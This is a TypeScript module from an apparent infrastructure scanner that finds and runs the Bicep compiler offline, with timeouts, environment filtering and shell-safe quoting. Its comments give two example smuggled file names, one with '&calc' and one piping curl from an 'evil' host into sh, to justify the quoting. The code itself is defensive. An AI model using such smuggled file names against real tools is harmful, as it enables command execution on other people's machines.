import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { homedir } from "node:os";
import { delimiter, join, relative } from "node:path";
import { InputError } from "../model/index.js";
import { fsFault, onPath, trustedPath } from "../node/index.js";
import { MAX_SOURCE_BYTES } from "../reader/index.js";
import { NOT_RESTORED, parseDiagnostics, type BicepDiagnostic } from "./diagnostics.js";
import type { BicepCompile } from "../config/bicep-options.js";

/** A Bicep CLI found on this machine: the standalone `bicep`, or the Azure CLI's `az bicep`. */
export interface BicepCli {
  executable: string;
  /** `bicep` takes the file as an argument; `az bicep` takes `--file <path>`. */
  flavour: "bicep" | "az";
}

export const DEFAULT_COMPILE_TIMEOUT_MS = 120_000;
const MAX_DIAGNOSTICS_SHOWN = 10;
const MAX_STDERR_BYTES = 1024 * 1024;

export const NO_COMPILER_MESSAGE =
  "no Bicep compiler found: install the Bicep CLI (https://aka.ms/bicep/install) or the Azure CLI and run 'az bicep install', " +
  "put it on PATH, or name it with --bicep <path> (bicep.path in .acs-baseline.yaml)";

export const AZ_WITHOUT_BICEP_MESSAGE =
  "the Azure CLI has no Bicep CLI installed (az would download it, and the scanner never uses the network): run 'az bicep install' first, " +
  "or install the Bicep CLI (https://aka.ms/bicep/install) and put it on PATH";

/**
 * What `az` is told for every compile: no check for a newer Bicep release and no telemetry (both
 * are network calls az makes by default, read from its configuration or these variables).
 */
const AZ_OFFLINE_ENV = { AZURE_BICEP_CHECK_VERSION: "false", AZURE_CORE_COLLECT_TELEMETRY: "false" };

/**
 * The CLI to use: the configured one, else `bicep` on PATH, else `az` on PATH (undefined: none). A
 * bare configured name is looked up here too: left to the system, Windows would look in the
 * working directory (the checkout) first.
 */
export function findBicepCli(configured: string | undefined, env: NodeJS.ProcessEnv = process.env): BicepCli | undefined {
  if (configured) {
    const flavour = /(^|[\\/])az(\.cmd|\.exe)?$/i.test(configured) ? "az" : "bicep";
    if (/[\\/]/.test(configured)) return { executable: configured, flavour };
    const names = process.platform === "win32" && !/\.(exe|cmd)$/i.test(configured) ? [`${configured}.exe`, `${configured}.cmd`] : [configured];
    const found = onPath(names, env);
    return found ? { executable: found, flavour } : undefined;
  }
  const bicep = onPath(process.platform === "win32" ? ["bicep.exe", "bicep.cmd"] : ["bicep"], env);
  if (bicep) return { executable: bicep, flavour: "bicep" };
  const az = onPath(process.platform === "win32" ? ["az.cmd", "az.exe"] : ["az"], env);
  return az ? { executable: az, flavour: "az" } : undefined;
}

/**
 * Whether `az bicep` can compile without downloading: az runs its own copy of the Bicep CLI in its
 * configuration folder (or, when configured so, a `bicep` on PATH); without either it downloads one.
 */
export function azHasBicep(env: NodeJS.ProcessEnv = process.env): boolean {
  const configDir = env["AZURE_CONFIG_DIR"] || join(homedir(), ".azure");
  const own = join(configDir, "bin", process.platform === "win32" ? "bicep.exe" : "bicep");
  return existsSync(own) || onPath(process.platform === "win32" ? ["bicep.exe", "bicep.cmd"] : ["bicep"], env) !== undefined;
}

/** The command line of a compile, in the CLI's documented `--stdout` form, never restoring from a registry. */
export function compileArguments(cli: BicepCli, command: "build" | "build-params", file: string): string[] {
  return cli.flavour === "az" ? ["bicep", command, "--file", file, "--stdout", "--no-restore"] : [command, file, "--stdout", "--no-restore"];
}

/**
 * Runs the CLI on one file, bounded in time and output, and returns what it printed on standard
 * output. A failed compile throws `InputError` listing the compiler's diagnostics.
 */
export function runBicepCli(cli: BicepCli, command: "build" | "build-params", file: string, timeoutMs: number, withheld: readonly string[] = []): string {
  const viaShell = process.platform === "win32" && /\.cmd$/i.test(cli.executable);
  const args = compileArguments(cli, command, file);
  const [program, argv] = viaShell ? shellQuoted(file, cli.executable, args) : [cli.executable, args];
  const result = spawnSync(program, argv, {
    encoding: "utf8",
    env: compilerEnvironment(cli, withheld),
    timeout: timeoutMs,
    maxBuffer: MAX_SOURCE_BYTES + MAX_STDERR_BYTES,
    windowsHide: true,
    shell: viaShell,
  });
  const error = result.error as NodeJS.ErrnoException | undefined;
  if (error?.code === "ETIMEDOUT") throw new InputError(file, `the Bicep compiler did not finish within ${timeoutMs / 1000} s`);
  if (error?.code === "ENOBUFS") throw new InputError(file, `the Bicep compiler printed more than ${MAX_SOURCE_BYTES / (1024 * 1024)} MiB`);
  if (error) throw new InputError(file, `the Bicep compiler ${cli.executable} cannot be run: ${fsFault(error)}`);
  // maxBuffer bounds each stream on its own, so both are measured here against their own limits.
  if (Buffer.byteLength(result.stdout ?? "", "utf8") > MAX_SOURCE_BYTES)
    throw new InputError(file, `the Bicep compiler printed more than ${MAX_SOURCE_BYTES / (1024 * 1024)} MiB`);
  const stderr = result.stderr ?? "";
  if (Buffer.byteLength(stderr, "utf8") > MAX_STDERR_BYTES)
    throw new InputError(file, `the Bicep compiler printed more than ${MAX_STDERR_BYTES / (1024 * 1024)} MiB of diagnostics`);
  if (result.status !== 0) throw compileFailure(cli, file, result.status, stderr + "\n" + (result.stdout ?? ""));
  return result.stdout ?? "";
}

/**
 * A `.cmd` (az.cmd) runs only through cmd.exe, which Node hands the arguments joined, unquoted: a
 * file named `a&calc.bicep` would run calc. So each is quoted, and a file name holding what cmd.exe
 * or the batch file's `%*` would still read inside quotes (`"`, `%`, `!`, `^`, line breaks) is
 * refused. Exported for tests (they run on any platform).
 */
export function shellQuoted(file: string, executable: string, args: readonly string[]): [string, string[]] {
  const quote = (s: string) => {
    // eslint-disable-next-line no-control-regex -- control characters are what is refused
    if (/["%!^\u0000-\u001f]/.test(s))
      throw new InputError(file, `the path holds a character cmd.exe would interpret (" % ! ^ or a control character), so ${executable} is not run on it`);
    return `"${s}"`;
  };
  return [quote(executable), args.map(quote)];
}

/**
 * The compiler's environment: the scanner's, without the variables the sources read with
 * `readEnvironmentVariable()` (a CI job's secrets must not become parameter values that findings
 * quote; the compiler takes the default given, or fails), and for az without its network calls.
 */
function compilerEnvironment(cli: BicepCli, withheld: readonly string[]): NodeJS.ProcessEnv {
  const names = new Set(withheld.map((n) => n.toUpperCase())); // (names are case-insensitive on Windows)
  const env = Object.fromEntries(Object.entries(process.env).filter(([name]) => !names.has(name.toUpperCase())));
  if (cli.flavour !== "az") return env;
  // az may run a `bicep` it finds on PATH itself: only in the directories the scanner trusts.
  const pathKey = Object.keys(env).find((name) => name.toUpperCase() === "PATH") ?? "PATH";
  return { ...env, [pathKey]: trustedPath(env[pathKey] ?? "").join(delimiter), ...AZ_OFFLINE_ENV };
}

/** Calls a compile function given through the API; its errors become the file's error. */
export function runCompileFunction(compile: BicepCompile, command: "build" | "build-params", file: string): { json: string; sources?: Record<string, string> } {
  try {
    return compile({ file, command });
  } catch (e) {
    throw new InputError(file, `Bicep compilation failed: ${e instanceof Error ? e.message : String(e)}`);
  }
}

function compileFailure(cli: BicepCli, file: string, status: number | null, output: string): InputError {
  const errors = parseDiagnostics(output).filter((d) => d.level === "Error");
  // An Azure CLI older than the flag: compiling without it could restore from a registry, so never retry without.
  if (errors.length === 0 && /unrecognized arguments:.*--no-restore/.test(output)) {
    return new InputError(
      file,
      "this Azure CLI's 'az bicep' has no --no-restore for this command, and the scanner never compiles in a way that may use the network: " +
        "upgrade the Azure CLI, or install the Bicep CLI (https://aka.ms/bicep/install) and put it on PATH (or name it with --bicep <path>)",
    );
  }
  if (errors.length === 0) {
    const lines = output.trim().split(/\r?\n/).filter(Boolean).slice(0, 5).join(" | ");
    return new InputError(file, `the Bicep compiler failed (exit code ${status ?? "none"})${lines ? `: ${lines}` : ""}`);
  }
  const shown = errors.slice(0, MAX_DIAGNOSTICS_SHOWN).map((d) => describe(d));
  const more = errors.length > shown.length ? `; and ${errors.length - shown.length} more` : "";
  const restore = errors.some((d) => NOT_RESTORED.has(d.code))
    ? `registry modules are not in the local cache (the scanner compiles with --no-restore and never uses the network): run '${cli.flavour === "az" ? `az bicep restore --file ${shellWord(file)}` : `bicep restore ${shellWord(file)}`}' first; `
    : "";
  const own = errors.find((d) => sameFile(d.file, file));
  return new InputError(
    file,
    `${restore}Bicep compilation failed with ${errors.length} error${errors.length === 1 ? "" : "s"}: ${shown.join("; ")}${more}`,
    own ? { line: own.line, column: own.column } : undefined,
  );
}

/**
 * A path as one POSIX shell word, for a command the message tells the user to run: a file name from
 * a pull request (`x';curl evil|sh;'.bicep`) must not become a command of its own when pasted.
 */
export function shellWord(path: string): string {
  return /^[\w./@:+,-]+$/.test(path) ? path : `'${path.replace(/'/g, "'\\''")}'`;
}

function describe(d: BicepDiagnostic): string {
  return `${d.file}:${d.line}:${d.column} ${d.code}: ${d.message}`;
}

function sameFile(reported: string, file: string): boolean {
  const path = reported.startsWith("file://") ? decodeURIComponent(new URL(reported).pathname) : reported;
  return relative(path, file) === "";
}
